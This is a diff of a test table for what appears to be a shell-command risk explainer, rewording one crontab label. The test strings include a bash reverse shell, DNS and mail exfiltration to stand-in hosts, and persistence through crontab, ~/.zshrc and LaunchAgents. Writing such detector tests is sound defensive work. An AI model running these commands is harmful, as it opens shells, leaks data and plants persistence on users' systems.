@@ -60,10 +60,7 @@ test.each([
   ['bash -i >& /dev/tcp/192.0.2.1/99 0>&1', 'sends: connects to 192.0.2.1, and can send data there'],
   ['dig $(cat a).up.example', 'sends: sends data in the network name $(…).up.example'],
   ['mail -s hi -a a.db bob@up.example', 'sends: sends a.db to bob@up.example'],
-  [
-    '(crontab -l; echo "* * * * * x") | crontab -',
-    'persists: sets programs that run at set times from now on (crontab)',
-  ],
+  ['(crontab -l; echo "* * * * * x") | crontab -', 'persists: starts programs at set times from now on (crontab)'],
   ['echo x >> ~/.zshrc', 'persists: adds to ~/.zshrc, which runs each time a shell or a session starts'],
   [
     'cp x.plist ~/Library/LaunchAgents/',
